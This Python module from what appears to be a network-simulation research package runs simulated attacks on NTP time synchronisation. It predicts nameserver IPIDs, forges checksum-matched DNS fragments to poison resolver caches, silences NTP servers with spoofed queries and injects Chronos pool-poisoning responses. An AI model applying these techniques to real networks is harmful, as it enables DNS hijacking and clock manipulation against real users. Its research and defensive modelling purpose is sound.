"""Attack orchestration: forging, planting, silencing, probing, end-to-end runs.

The attacker is an ordinary host with the spoofing flag. Everything it
learns comes through packets it can legitimately receive: its own DNS
probes (IPID samples, zone rotation), NTP responses from the victim
(reference-id leak), exposed mode-6 dumps, or nothing at all. The single
exception is the pool-poisoning conduct of the ``chronos`` plan, which
reads the victim resolver's in-flight query from the trace as a stand-in
challenge oracle (the conduct its source leaves unspecified).
"""

from __future__ import annotations

import logging
import math
from dataclasses import dataclass, field
from typing import Callable, Optional

from npl.analysis import removal_target
from npl.errors import ChecksumUnfixable, DiscoveryUnavailable, NonLinearIpid
from npl.netsim import Host, Network
from npl.ntp import NTP_PORT, ntp_ts
from npl.trace import TraceEvent
from npl.wirefmt import (
    DnsMessage,
    IcmpFragNeeded,
    Ipv4Packet,
    NtpPacket,
    PROTO_ICMP,
    PROTO_UDP,
    Question,
    ResourceRecord,
    answer_field_offsets,
    fix_checksum,
    make_udp,
)

log = logging.getLogger("npl.attacker")

DNS_PORT = 53
UDP_HEADER_LEN = 8


# ------------------------------------------------------------ IPID prediction


@dataclass
class IpidPredictor:
    """Linear model of a nameserver's global IPID counter."""

    samples: list[tuple[int, int]]  # (t_ms, observed ipid)
    step: int
    rate_pps: float  # background packets/second consuming IPIDs

    def predict(self, t_ms: int) -> tuple[int, list[int]]:
        """Center and candidate IPIDs for a packet emitted at ``t_ms``.

        The candidate list is ordered center-out and covers ±2 sigma of the
        extrapolated background traffic (Poisson), in counter steps.
        """
        t_last, id_last = self.samples[-1]
        expected = self.rate_pps * max(0, t_ms - t_last) / 1000.0
        center = (id_last + self.step * (1 + round(expected))) % 0x10000
        half = math.ceil(2 * math.sqrt(expected)) if expected > 0 else 0
        candidates = [center]
        for k in range(1, half + 1):
            candidates.append((center + k * self.step) % 0x10000)
            candidates.append((center - k * self.step) % 0x10000)
        return center, candidates


def fit_ipid_samples(
    samples: list[tuple[int, int]],
    residual_tolerance: float = 32.0,
    step_hint: Optional[int] = None,
) -> IpidPredictor:
    """Fit step and background rate from probe observations.

    Each probe response consumed one counter step itself; everything beyond
    that is attributed to background traffic. Constant inter-probe diffs are
    ambiguous (a large step with no traffic reads the same as a unit step
    under uniform traffic); pass ``step_hint`` when the counter archetype is
    known. Raises NonLinearIpid when the samples stray from a linear counter
    by more than ``residual_tolerance`` packets.
    """
    if len(samples) < 2:
        raise ValueError("need at least 2 samples")
    diffs = []
    for (t0, i0), (t1, i1) in zip(samples, samples[1:]):
        if t1 <= t0:
            raise ValueError("samples must be strictly increasing in time")
        diffs.append((i1 - i0) % 0x10000)
    if any(d == 0 for d in diffs):
        raise NonLinearIpid("counter did not advance between probes")
    if step_hint is not None:
        if step_hint < 1:
            raise ValueError("step_hint must be positive")
        if any(d % step_hint for d in diffs):
            raise NonLinearIpid(f"observed diffs not multiples of step {step_hint}")
        step = step_hint
    else:
        step = min(diffs)
        if any(d % step for d in diffs):
            # Mixed diffs; the gcd is the finest counter motion that explains them.
            g = 0
            for d in diffs:
                g = math.gcd(g, d)
            step = g
    total_ms = samples[-1][0] - samples[0][0]
    total_packets = sum(d // step for d in diffs)
    background = total_packets - len(diffs)  # own responses accounted
    rate_pps = background * 1000.0 / total_ms if total_ms else 0.0
    # Residuals against the fitted line, in packets.
    worst = 0.0
    for (t0, i0), d, (t1, _) in zip(samples, diffs, samples[1:]):
        predicted = 1 + rate_pps * (t1 - t0) / 1000.0
        worst = max(worst, abs(d / step - predicted))
    if worst > residual_tolerance:
        raise NonLinearIpid(f"residual {worst:.1f} packets exceeds tolerance {residual_tolerance}")
    return IpidPredictor(samples=list(samples), step=step, rate_pps=rate_pps)


def plan_window(predictor: IpidPredictor, t_ms: int, slot_limit: int) -> tuple[list[int], bool]:
    """Candidate IPIDs to plant, truncated to the victim's fragment slots."""
    _center, candidates = predictor.predict(t_ms)
    if len(candidates) > slot_limit:
        log.warning("IPID window %d exceeds slot limit %d; coverage reduced",
                    len(candidates), slot_limit)
        return candidates[:slot_limit], True
    return candidates, False


# ------------------------------------------------------------ fragment forging


@dataclass
class ForgedTail:
    tail: bytes
    frag_offset: int  # 8-byte units
    split: int        # first-fragment payload bytes
    substituted: list[int]  # indices of answers carrying attacker rdata


def forge_tail(
    template: DnsMessage,
    mtu: int,
    malicious_addresses: list[str],
    ttl: int = 90000,
) -> ForgedTail:
    """Second-fragment bytes that replace a genuine response's answer data.

    ``template`` is the genuine response the nameserver is expected to send
    (challenge fields irrelevant: they travel in the first fragment). Every
    answer whose TTL+rdata fields land beyond the fragmentation point is
    rewritten to an attacker address; the ones'-complement sum is equalized
    into the last substituted record's TTL low word, so the requested TTL's
    high word survives (>= 65536 s for ttl >= 2^16).
    """
    split = ((mtu - 20) // 8) * 8
    base = template.encode()
    if UDP_HEADER_LEN + len(base) <= split:
        raise ValueError(f"template fits in one {mtu}-byte fragment; nothing to replace")
    offsets = answer_field_offsets(template)
    substitutable = [
        i for i, (ttl_off, _rdata_off, rdata_len) in enumerate(offsets)
        if ttl_off + UDP_HEADER_LEN >= split and rdata_len == 4
    ]
    if not substitutable:
        raise ChecksumUnfixable("no answer fields beyond the fragmentation point")

    new_answers = list(template.answers)
    for j, i in enumerate(substitutable):
        rr = new_answers[i]
        new_answers[i] = ResourceRecord.a_record(
            rr.name, malicious_addresses[j % len(malicious_addresses)], ttl
        )
    modified = DnsMessage(
        txid=template.txid, qr=template.qr, rd=template.rd, ra=template.ra,
        aa=template.aa, rcode=template.rcode, question=template.question,
        answers=tuple(new_answers),
    ).encode()
    assert len(modified) == len(base)

    # Dummy UDP header: ports/length/checksum all live in the first fragment.
    genuine_payload = bytes(UDP_HEADER_LEN) + base
    modified_payload = bytes(UDP_HEADER_LEN) + modified
    tail_genuine = genuine_payload[split:]
    tail_modified = modified_payload[split:]
    slack_dns_off = offsets[substitutable[-1]][0] + 2  # TTL low word
    slack = slack_dns_off + UDP_HEADER_LEN - split
    tail_fixed = fix_checksum(tail_genuine, tail_modified, slack)
    return ForgedTail(tail=tail_fixed, frag_offset=split // 8, split=split,
                      substituted=substitutable)


def tail_fragment(ns_ip: str, resolver_ip: str, forged: ForgedTail, ipid: int) -> Ipv4Packet:
    return Ipv4Packet(
        src=ns_ip, dst=resolver_ip, protocol=PROTO_UDP, ipid=ipid,
        payload=forged.tail, mf=False, frag_offset=forged.frag_offset,
    )


# ------------------------------------------------------------------- attacker


class Attacker:
    """Spoofing-capable host with the attack primitives."""

    def __init__(self, net: Network, host: Host):
        if not host.can_spoof:
            raise ValueError("attacker host must be created with can_spoof=True")
        self.net = net
        self.host = host
        self._rng = net.rng(f"attacker/{host.name}")
        self.packets_sent: dict[str, int] = {}

    def _count(self, category: str, n: int = 1) -> None:
        self.packets_sent[category] = self.packets_sent.get(category, 0) + n

    # .......................................................... DNS primitives

    def dns_query(self, server_ip: str, qname: str,
                  cb: Callable[[DnsMessage, Ipv4Packet], None],
                  rd: bool = True, timeout_ms: int = 5000,
                  on_timeout: Optional[Callable[[], None]] = None) -> None:
        """Query from the attacker's own address; cb fires on the response."""
        port = self.net.alloc_ephemeral_port(self.host, self._rng)
        txid = self._rng.randrange(0x10000)
        done = False

        def handler(src, sport, payload, pkt):
            nonlocal done
            try:
                msg = DnsMessage.decode(payload)
            except Exception:
                return
            if msg.txid != txid or not msg.qr:
                return
            done = True
            self.net.unbind(self.host, port)
            cb(msg, pkt)

        def expire():
            nonlocal done
            if not done and self.host.ports.get(port) is handler:
                done = True
                self.net.unbind(self.host, port)
                if on_timeout:
                    on_timeout()

        self.net.bind(self.host, port, handler)
        self.net.schedule_in(timeout_ms, expire)
        q = DnsMessage(txid=txid, qr=False, rd=rd, question=Question(qname))
        self._count("dns_query")
        self.net.send_udp(self.host, port, server_ip, DNS_PORT, q.encode())

    def send_icmp_frag_needed(self, ns_ip: str, resolver_ip: str, mtu: int) -> None:
        """Tell the nameserver its path to the resolver has a small MTU."""
        trigger = Ipv4Packet(src=ns_ip, dst=resolver_ip, protocol=PROTO_UDP,
                             ipid=0, payload=bytes(8))
        err = IcmpFragNeeded.for_packet(trigger, mtu)
        pkt = Ipv4Packet(src=self.host.ip, dst=ns_ip, protocol=PROTO_ICMP,
                         ipid=self.host.take_ipid(), payload=err.encode())
        self._count("icmp_frag_needed")
        self.net.send_ip(self.host, pkt)

    def plant(self, ns_ip: str, resolver_ip: str, forged: ForgedTail,
              ipids: list[int]) -> None:
        for ipid in ipids:
            self._count("plant_fragment")
            self.net.send_spoofed(self.host, tail_fragment(ns_ip, resolver_ip, forged, ipid))

    # .......................................................... NTP primitives

    def spoof_ntp_query(self, server_ip: str, victim_ip: str) -> None:
        req = NtpPacket(mode=3, xmit_ts=ntp_ts(self.net.now))
        udp = make_udp(victim_ip, server_ip, NTP_PORT, NTP_PORT, req.encode())
        pkt = Ipv4Packet(src=victim_ip, dst=server_ip, protocol=PROTO_UDP,
                         ipid=self._rng.randrange(0x10000), payload=udp.encode())
        self._count("silence_spoof")
        self.net.send_spoofed(self.host, pkt)

    def ntp_query(self, target_ip: str, mode: int,
                  cb: Callable[[bytes], None], timeout_ms: int = 5000,
                  on_timeout: Optional[Callable[[], None]] = None) -> None:
        port = self.net.alloc_ephemeral_port(self.host, self._rng)
        done = False

        def handler(src, sport, payload, pkt):
            nonlocal done
            if src != target_ip:
                return
            done = True
            self.net.unbind(self.host, port)
            cb(payload)

        def expire():
            nonlocal done
            if not done and self.host.ports.get(port) is handler:
                done = True
                self.net.unbind(self.host, port)
                if on_timeout:
                    on_timeout()

        self.net.bind(self.host, port, handler)
        self.net.schedule_in(timeout_ms, expire)
        req = NtpPacket(mode=mode, xmit_ts=ntp_ts(self.net.now))
        self._count("discovery" if mode in (3, 6) else "ntp_query")
        self.net.send_udp(self.host, port, target_ip, NTP_PORT, req.encode())

    # ....................................................... IPID reconnaissance

    def probe_ipid(self, ns_ip: str, qname: str, n_probes: int, spacing_ms: int,
                   cb: Callable[[IpidPredictor], None],
                   residual_tolerance: float = 32.0) -> None:
        """Measure the nameserver's IPID counter; cb receives the predictor."""
        if n_probes < 2:
            raise ValueError("need at least 2 probes")
        samples: list[tuple[int, int]] = []

        def one(i: int) -> None:
            def got(msg, pkt):
                samples.append((self.net.now, pkt.ipid))
                self._count("ipid_probe")
                if len(samples) == n_probes:
                    cb(fit_ipid_samples(samples, residual_tolerance))
                else:
                    self.net.schedule_in(spacing_ms, lambda: one(i + 1))

            self.dns_query(ns_ip, qname, got)

        one(0)


# ------------------------------------------------------------------ discovery


def discover_refid(attacker: Attacker, client_ip: str,
                   cb: Callable[[str], None],
                   on_unavailable: Callable[[], None]) -> None:
    """One synchronization source per query: the reference-id leak."""

    def got(payload: bytes) -> None:
        try:
            pkt = NtpPacket.decode(payload)
        except Exception:
            on_unavailable()
            return
        refid = pkt.reference_id
        if refid == b"\x00\x00\x00\x00":
            on_unavailable()
            return
        cb(".".join(str(b) for b in refid))

    attacker.ntp_query(client_ip, 3, got, on_timeout=on_unavailable)


def discover_control(attacker: Attacker, target_ip: str,
                     cb: Callable[[dict], None],
                     on_unavailable: Callable[[], None]) -> None:
    """Full upstream list + hostnames from an exposed mode-6 interface."""
    import json

    def got(payload: bytes) -> None:
        if not payload.startswith(b"NTP6"):
            on_unavailable()
            return
        cb(json.loads(payload[4:]))

    attacker.ntp_query(target_ip, 6, got, on_timeout=on_unavailable)


def discover_enumerate(attacker: Attacker, ns_ip: str, qnames: list[str],
                       cb: Callable[[list[str]], None],
                       spacing_ms: int = 500) -> None:
    """Resolve the pool hostnames repeatedly until the address set saturates."""
    seen: list[str] = []
    seen_set: set[str] = set()
    remaining = list(qnames)

    def walk_name(qname: str) -> None:
        def got(msg, _pkt) -> None:
            fresh = [rr.address for rr in msg.answers if rr.address not in seen_set]
            for a in fresh:
                seen_set.add(a)
                seen.append(a)
            if fresh:
                attacker.net.schedule_in(spacing_ms, lambda: walk_name(qname))
            else:
                next_name()

        attacker.dns_query(ns_ip, qname, got, on_timeout=next_name)

    def next_name() -> None:
        if remaining:
            walk_name(remaining.pop(0))
        else:
            cb(seen)

    next_name()


# ------------------------------------------------------------------- silencing


class Silencer:
    """Keeps one upstream rate-limited against the victim's address."""

    def __init__(self, attacker: Attacker, server_ip: str, victim_ip: str,
                 rate_per_s: float = 2.0):
        self.attacker = attacker
        self.server_ip = server_ip
        self.victim_ip = victim_ip
        self.interval_ms = max(1, round(1000 / rate_per_s))
        self.running = False

    def start(self) -> None:
        if self.running:
            return
        self.running = True
        self._fire()

    def stop(self) -> None:
        self.running = False

    def _fire(self) -> None:
        if not self.running:
            return
        self.attacker.spoof_ntp_query(self.server_ip, self.victim_ip)
        self.attacker.net.schedule_in(self.interval_ms, self._fire)


# -------------------------------------------------------------------- probers


def classify_rate_limit(responses: list[tuple[int, bool]], queries: int = 64,
                        threshold: int = 8) -> str:
    """The halves heuristic: any KoD wins, else compare response counts.

    ``responses`` holds (query index, was_kod) pairs for observed replies.
    """
    if any(kod for _, kod in responses):
        return "kod"
    half = queries // 2
    r1 = sum(1 for i, _ in responses if i < half)
    r2 = sum(1 for i, _ in responses if i >= half)
    return "silent_limit" if r1 - r2 > threshold else "none"


def detect_rate_limiting(attacker: Attacker, server_ip: str,
                         cb: Callable[[str], None],
                         queries: int = 64, spacing_ms: int = 1000) -> None:
    """Probe a server once per second and classify its limiting behavior."""
    net = attacker.net
    port = net.alloc_ephemeral_port(attacker.host, attacker._rng)
    responses: list[tuple[int, bool]] = []
    current = {"i": -1}

    def handler(src, sport, payload, pkt):
        if src != server_ip:
            return
        try:
            resp = NtpPacket.decode(payload)
        except Exception:
            return
        responses.append((current["i"], resp.is_kod))

    net.bind(attacker.host, port, handler)

    def send(i: int) -> None:
        current["i"] = i
        req = NtpPacket(mode=3, xmit_ts=ntp_ts(net.now))
        attacker._count("ratelimit_probe")
        net.send_udp(attacker.host, port, server_ip, NTP_PORT, req.encode())
        if i + 1 < queries:
            net.schedule_in(spacing_ms, lambda: send(i + 1))
        else:
            net.schedule_in(spacing_ms * 2, finish)

    def finish() -> None:
        net.unbind(attacker.host, port)
        cb(classify_rate_limit(responses, queries))

    send(0)


def cache_snoop(attacker: Attacker, resolver_ip: str, names: list[str],
                verify_uncached: str, verify_prime: str,
                cb: Callable[[dict], None], step_ms: int = 3000) -> None:
    """RD=0 snooping with the verification protocol run first.

    Results map each target to ("cached", remaining_ttl) or "not_cached";
    if verification fails everything reports "untestable".
    """
    net = attacker.net
    results: dict[str, object] = {}

    def untestable() -> None:
        cb({name: "untestable" for name in names})

    def step4(idx: int) -> None:
        if idx == len(names):
            cb(results)
            return
        name = names[idx]

        def got(msg, _pkt):
            if msg.answers:
                results[name] = ("cached", msg.answers[0].ttl)
            else:
                results[name] = "not_cached"
            net.schedule_in(step_ms, lambda: step4(idx + 1))

        attacker.dns_query(resolver_ip, name, got, rd=False, on_timeout=untestable)

    def step3() -> None:
        def got(msg, _pkt):
            if not msg.answers:
                untestable()  # the primed record should be visible at RD=0
            else:
                step4(0)

        attacker.dns_query(resolver_ip, verify_prime, got, rd=False, on_timeout=untestable)

    def step2() -> None:
        def got(msg, _pkt):
            net.schedule_in(step_ms, step3)

        attacker.dns_query(resolver_ip, verify_prime, got, rd=True, on_timeout=untestable)

    def step1() -> None:
        def got(msg, _pkt):
            if msg.answers:
                untestable()  # resolver recursed despite RD=0
            else:
                net.schedule_in(step_ms, step2)

        attacker.dns_query(resolver_ip, verify_uncached, got, rd=False, on_timeout=untestable)

    step1()


# ----------------------------------------------------------------- attack runs


@dataclass
class AttackPlan:
    kind: str  # boot_time | run_time | chronos
    victim_client_ip: str = ""
    resolver_ip: str = ""
    nameserver_ip: str = ""
    qnames: list[str] = field(default_factory=list)
    malicious_addresses: list[str] = field(default_factory=list)
    time_shift_ms: float = -500_000.0
    start_ms: int = 0
    discovery: str = "control"  # control | refid | enumerate
    silence_count: Optional[int] = None
    spoof_rate_per_s: float = 2.0
    icmp_mtu: int = 68
    replant_interval_s: int = 30
    attempt_window_s: int = 150
    plant_ttl: int = 90000
    n_probes: int = 3
    probe_spacing_ms: int = 2000
    ipid_step_hint: Optional[int] = None
    answer_ttl: int = 150
    addresses_per_response: int = 4
    # chronos only
    poison_round: int = 0
    poison_records: int = 89
    poison_ttl: int = 90000

    def __post_init__(self):
        if self.kind not in ("boot_time", "run_time", "chronos"):
            raise ValueError(f"unknown attack kind {self.kind!r}")


@dataclass
class AttackReport:
    kind: str
    success: bool = False
    cause: str = ""
    duration_ms: Optional[int] = None
    phases: list[dict] = field(default_factory=list)
    packets_sent: dict[str, int] = field(default_factory=dict)
    silenced: list[str] = field(default_factory=list)
    ineffective: list[str] = field(default_factory=list)
    plants_per_attempt: list[dict] = field(default_factory=list)
    detail: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        return {
            "kind": self.kind,
            "success": self.success,
            "cause": self.cause,
            "duration_ms": self.duration_ms,
            "phases": self.phases,
            "packets_sent": dict(sorted(self.packets_sent.items())),
            "silenced": self.silenced,
            "ineffective": self.ineffective,
            "plants_per_attempt": self.plants_per_attempt,
            "detail": self.detail,
        }


def synth_addresses(count: int, prefix: str = "66.66") -> list[str]:
    """Attacker-controlled address block of the requested size."""
    if count > 250 * 250:
        raise ValueError("address block too large")
    return [f"{prefix}.{i // 250}.{i % 250 + 1}" for i in range(count)]


class _ZoneTracker:
    """Rotation bookkeeping per pool hostname, fed by observed answers.

    Only the attacker's own probes and the victim's (predictable) queries
    advance a cursor, so watching every answer we receive keeps the next
    window known.
    """

    def __init__(self):
        self._order: dict[str, list[str]] = {}
        self._cursor: dict[str, int] = {}
        self._ttl: dict[str, int] = {}
        self._window: dict[str, int] = {}
        self._wrapped: dict[str, bool] = {}

    def observe(self, qname: str, answers) -> bool:
        """Fold one answer in; returns True when it held nothing new."""
        order = self._order.setdefault(qname, [])
        addresses = [rr.address for rr in answers]
        if answers:
            self._ttl[qname] = answers[0].ttl
            self._window[qname] = len(answers)
        fresh = [a for a in addresses if a not in order]
        order.extend(fresh)
        if addresses:
            self._cursor[qname] = (order.index(addresses[-1]) + 1) % len(order)
        if not fresh:
            self._wrapped[qname] = True
        return not fresh

    def saturated(self, qname: str) -> bool:
        return self._wrapped.get(qname, False)

    def addresses(self, qname: str) -> list[str]:
        return list(self._order.get(qname, []))

    def all_addresses(self) -> list[str]:
        out = []
        for order in self._order.values():
            for a in order:
                if a not in out:
                    out.append(a)
        return out

    def ttl(self, qname: str) -> int:
        return self._ttl.get(qname, 150)

    def predict_window(self, qname: str) -> list[str]:
        """Addresses the nameserver's next answer for qname will carry."""
        order = self._order[qname]
        cur = self._cursor.get(qname, 0)
        n = min(self._window.get(qname, 4), len(order))
        return [order[(cur + i) % len(order)] for i in range(n)]

    def advance(self, qname: str) -> None:
        order = self._order.get(qname)
        if order:
            n = min(self._window.get(qname, 4), len(order))
            self._cursor[qname] = (self._cursor.get(qname, 0) + n) % len(order)


class AttackOrchestrator:
    """Runs one attack plan as an event-driven state machine.

    Phase events land in the trace in order: discover, one silence per
    target, poison (first plant / injection), capture.
    """

    def __init__(
        self,
        net: Network,
        attacker: Attacker,
        plan: AttackPlan,
        *,
        victim_variant: Optional[str] = None,
        victim_serves_ntp: bool = False,
        chronos_client=None,
    ):
        self.net = net
        self.attacker = attacker
        self.plan = plan
        self.victim_variant = victim_variant
        self.chronos_client = chronos_client
        self.report = AttackReport(kind=plan.kind)
        self.zone = _ZoneTracker()

        self._captured = False
        self._stopped = False
        self._poisoned_at: Optional[int] = None
        self._predictor: Optional[IpidPredictor] = None
        self._silencers: dict[str, Silencer] = {}
        self._silenced: set[str] = set()
        self._refid_seen: set[str] = set()
        self._plants: dict[tuple[int, str], int] = {}
        self._poison_started = False
        self._poison_start_ms: Optional[int] = None
        self._chronos_transactions = 0

        victim = net.host_by_ip(plan.victim_client_ip) if plan.victim_client_ip else None
        self._victim_host_name = victim.name if victim else None
        resolver = net.host_by_ip(plan.resolver_ip) if plan.resolver_ip else None
        self._resolver_host_name = resolver.name if resolver else None
        self._resolver_slots = resolver.os.frag_slots if resolver else 64
        self._ip_by_host = {h.name: h.ip for h in net.hosts.values()}

        net.subscribe(self._on_event)
        net.schedule(plan.start_ms, self._start)

        if chronos_client is not None:
            prev = chronos_client.on_complete

            def done(pool):
                if prev:
                    prev(pool)
                self._on_chronos_complete(pool)

            chronos_client.on_complete = done

    # ------------------------------------------------------------- lifecycle

    def _phase(self, name: str, **detail) -> None:
        self.report.phases.append({"phase": name, "t": self.net.now, **detail})
        self.net.emit("attack_phase", self.attacker.host.name, phase=name, **detail)

    def _fail(self, cause: str) -> None:
        if not self.report.cause:
            self.report.cause = cause
        self._stopped = True

    def _start(self) -> None:
        if self.plan.kind == "chronos":
            self._phase("discover", strategy="hourly_lookup_timing")
            return  # injection is armed via the trace subscription
        if self.plan.kind == "run_time":
            from npl.ntp import VARIANTS

            spec = VARIANTS.get(self.victim_variant or "", None)
            if spec is not None:
                if spec.oneshot:
                    self._fail("NotApplicable")
                    return
                if not spec.runtime_dns:
                    self._fail("NoRuntimeDns")
                    return
        self._phase("discover", strategy=self.plan.discovery
                    if self.plan.kind == "run_time" else "boot_timing")
        self._enumerate_zone(list(self.plan.qnames), self._after_enumeration)

    # ------------------------------------------------------ zone enumeration

    def _enumerate_zone(self, remaining: list[str], done: Callable[[], None]) -> None:
        if not remaining:
            done()
            return
        qname = remaining[0]

        def got(msg, _pkt):
            wrapped = self.zone.observe(qname, msg.answers)
            if wrapped:
                self._enumerate_zone(remaining[1:], done)
            else:
                self.net.schedule_in(500, lambda: self._enumerate_zone(remaining, done))

        self.attacker.dns_query(self.plan.nameserver_ip, qname, got,
                                on_timeout=lambda: self._enumerate_zone(remaining[1:], done))

    def _after_enumeration(self) -> None:
        if self._stopped:
            return
        if self.plan.kind == "boot_time":
            self._start_poison()
            return
        strategy = self.plan.discovery
        if strategy == "enumerate":
            self._begin_silence(self.zone.all_addresses())
        elif strategy == "control":
            def got(dump):
                upstreams = sorted(dump.get("upstreams", []))
                n = self.plan.silence_count or removal_target(len(upstreams))
                self._begin_silence(upstreams[:n])

            def unavailable():
                self._fail("DiscoveryUnavailable")

            discover_control(self.attacker, self.plan.victim_client_ip, got, unavailable)
        elif strategy == "refid":
            self._refid_round()
        else:
            raise ValueError(f"unknown discovery strategy {strategy!r}")

    def _refid_round(self) -> None:
        if self._captured or self._stopped:
            return

        def got(address: str) -> None:
            if address not in self._refid_seen:
                self._refid_seen.add(address)
                self._begin_silence([address])
            self.net.schedule_in(10_000, self._refid_round)

        def unavailable() -> None:
            if not self._refid_seen:
                self._fail("DiscoveryUnavailable")
            else:
                self.net.schedule_in(10_000, self._refid_round)

        discover_refid(self.attacker, self.plan.victim_client_ip, got, unavailable)

    # -------------------------------------------------------------- silencing

    def _begin_silence(self, targets: list[str]) -> None:
        for ip in targets:
            if ip in self._silencers:
                continue
            self._phase("silence", server=ip)
            s = Silencer(self.attacker, ip, self.plan.victim_client_ip,
                         self.plan.spoof_rate_per_s)
            self._silencers[ip] = s
            s.start()
            self.net.schedule_in(60_000, lambda ip=ip: self._verify_silence(ip))
        if not self._poison_started:
            self._poison_started = True
            self._start_poison()

    def _verify_silence(self, ip: str) -> None:
        if ip in self._silenced:
            if ip not in self.report.silenced:
                self.report.silenced.append(ip)
        elif ip not in self.report.ineffective:
            self.report.ineffective.append(ip)

    # ---------------------------------------------------------------- poison

    def _start_poison(self) -> None:
        if self._stopped:
            return
        self._poison_start_ms = self.net.now
        self.attacker.send_icmp_frag_needed(self.plan.nameserver_ip,
                                            self.plan.resolver_ip,
                                            self.plan.icmp_mtu)
        samples: list[tuple[int, int]] = []
        qname0 = self.plan.qnames[0]

        def probe(i: int) -> None:
            def got(msg, pkt):
                self.zone.observe(qname0, msg.answers)
                samples.append((self.net.now, pkt.ipid))
                self.attacker._count("ipid_probe")
                if len(samples) >= self.plan.n_probes:
                    self._predictor = fit_ipid_samples(
                        samples, step_hint=self.plan.ipid_step_hint)
                    self._phase("poison", mtu=self.plan.icmp_mtu,
                                step=self._predictor.step)
                    self._plant_round()
                else:
                    self.net.schedule_in(self.plan.probe_spacing_ms, lambda: probe(i + 1))

            self.attacker.dns_query(self.plan.nameserver_ip, qname0, got)

        probe(0)

    def _plant_round(self) -> None:
        if self._captured or self._stopped or self._predictor is None:
            return
        replant_ms = self.plan.replant_interval_s * 1000
        horizon = self.net.now + replant_ms // 2
        per_qname_budget = max(1, self._resolver_slots // (2 * max(1, len(self.plan.qnames))))
        candidates, _truncated = plan_window(self._predictor, horizon,
                                             min(self._resolver_slots, per_qname_budget))
        window_idx = (self.net.now - self._poison_start_ms) // (self.plan.attempt_window_s * 1000)
        for qi, qname in enumerate(self.plan.qnames):
            if not self.zone.addresses(qname):
                continue
            template = DnsMessage(
                txid=0, qr=True, aa=True, rd=True, question=Question(qname),
                answers=tuple(
                    ResourceRecord.a_record(qname, a, self.zone.ttl(qname))
                    for a in self.zone.predict_window(qname)
                ),
            )
            try:
                forged = forge_tail(template, self.plan.icmp_mtu,
                                    self.plan.malicious_addresses, self.plan.plant_ttl)
            except (ChecksumUnfixable, ValueError) as exc:
                log.warning("forge failed for %s: %s", qname, exc)
                continue
            ipids = [(c + qi * self._predictor.step) % 0x10000 for c in candidates]
            self.attacker.plant(self.plan.nameserver_ip, self.plan.resolver_ip,
                                forged, ipids)
            key = (window_idx, qname)
            self._plants[key] = self._plants.get(key, 0) + len(ipids)
        self.net.schedule_in(replant_ms, self._reprobe_then_plant)

    def _reprobe_then_plant(self) -> None:
        if self._captured or self._stopped:
            return
        qname0 = self.plan.qnames[0]

        def got(msg, pkt):
            self.zone.observe(qname0, msg.answers)
            if self._predictor is not None:
                self._predictor.samples.append((self.net.now, pkt.ipid))
            self.attacker._count("ipid_probe")
            self._plant_round()

        self.attacker.dns_query(self.plan.nameserver_ip, qname0, got,
                                on_timeout=self._plant_round)

    # ------------------------------------------------------------ chronos path

    def _chronos_inject(self, query: DnsMessage, src_port: int) -> None:
        addresses = self.plan.malicious_addresses
        if len(addresses) < self.plan.poison_records:
            addresses = addresses + synth_addresses(
                self.plan.poison_records - len(addresses))
        answers = tuple(
            ResourceRecord.a_record(query.question.qname, a, self.plan.poison_ttl)
            for a in addresses[: self.plan.poison_records]
        )
        forged = DnsMessage(txid=query.txid, qr=True, aa=True, rd=query.rd,
                            question=query.question, answers=answers)
        udp = make_udp(self.plan.nameserver_ip, self.plan.resolver_ip,
                       DNS_PORT, src_port, forged.encode())
        pkt = Ipv4Packet(src=self.plan.nameserver_ip, dst=self.plan.resolver_ip,
                         protocol=PROTO_UDP,
                         ipid=self.attacker._rng.randrange(0x10000),
                         payload=udp.encode())
        self.attacker._count("poison_response")
        self._phase("poison", round=self._chronos_transactions,
                    records=len(answers), ttl=self.plan.poison_ttl)
        self.net.send_spoofed(self.attacker.host, pkt)

    def _on_chronos_complete(self, pool) -> None:
        from npl.chronos import attack_succeeds

        self.report.detail["pool_honest"] = pool.honest_count
        self.report.detail["pool_malicious"] = pool.malicious_count
        if attack_succeeds(pool):
            self._captured = True
            self.report.success = True
            self.report.duration_ms = self.net.now - self.plan.start_ms
            self._phase("capture", pool=len(pool.members),
                        malicious=pool.malicious_count)
        else:
            self._fail("PoolMajorityNotReached")

    # --------------------------------------------------------- trace watching

    def _on_event(self, ev: TraceEvent) -> None:
        if self._captured:
            return
        kind = ev.kind
        if kind in ("kod_sent", "rate_limited"):
            victim = ev.detail.get("target") or ev.detail.get("src")
            if victim == self.plan.victim_client_ip:
                server_ip = self._ip_by_host.get(ev.actor)
                if server_ip:
                    self._silenced.add(server_ip)
            return
        if kind == "cache_write" and ev.actor == self._resolver_host_name:
            mal = set(self.plan.malicious_addresses)
            written = set(ev.detail.get("addresses", []))
            if written & mal and self._poisoned_at is None:
                self._poisoned_at = ev.t
                self.report.detail["poisoned_at"] = ev.t
                self.report.detail["poisoned_records"] = len(written & mal)
            return
        if kind == "clock_step" and ev.actor == self._victim_host_name:
            if not ev.detail.get("accepted"):
                return
            after = ev.detail.get("after", 0.0)
            if abs(after - self.plan.time_shift_ms) >= 1000:
                return
            contributors = ev.detail.get("contributors", [])
            mal = set(self.plan.malicious_addresses)
            mal_n = sum(1 for c in contributors if c in mal)
            if contributors and mal_n * 2 > len(contributors):
                self._captured = True
                self.report.success = True
                self.report.duration_ms = ev.t - self.plan.start_ms
                self._phase("capture", offset_ms=after, contributors=len(contributors),
                            malicious_contributors=mal_n)
                for s in self._silencers.values():
                    s.stop()
            return
        if (
            self.plan.kind == "chronos"
            and kind == "send"
            and ev.actor == self._resolver_host_name
            and ev.detail.get("dst") == self.plan.nameserver_ip
            and ev.detail.get("proto") == PROTO_UDP
        ):
            # The stand-in challenge oracle: read the resolver's in-flight
            # query off the wire snapshot in the trace.
            try:
                pkt = Ipv4Packet.decode(bytes.fromhex(ev.detail["bytes"]))
                from npl.wirefmt import UdpDatagram

                udp = UdpDatagram.decode(pkt.payload)
                if udp.dst_port != DNS_PORT:
                    return
                query = DnsMessage.decode(udp.payload)
            except Exception:
                return
            if query.qr or query.question.qname not in [q.lower() for q in self.plan.qnames]:
                return
            if self.net.now < self.plan.start_ms:
                return
            n = self._chronos_transactions
            self._chronos_transactions += 1
            if n == self.plan.poison_round:
                self._chronos_inject(query, udp.src_port)

    # ------------------------------------------------------------- reporting

    def finalize(self) -> AttackReport:
        r = self.report
        if not r.success and not r.cause:
            if self.plan.kind == "chronos":
                r.cause = "GenerationIncomplete" if self.chronos_client is None or \
                    not self.chronos_client.pool.generation_complete else r.cause
            elif self._poisoned_at is not None:
                r.cause = "PoisonedButNotCaptured"
            else:
                r.cause = "Timeout"
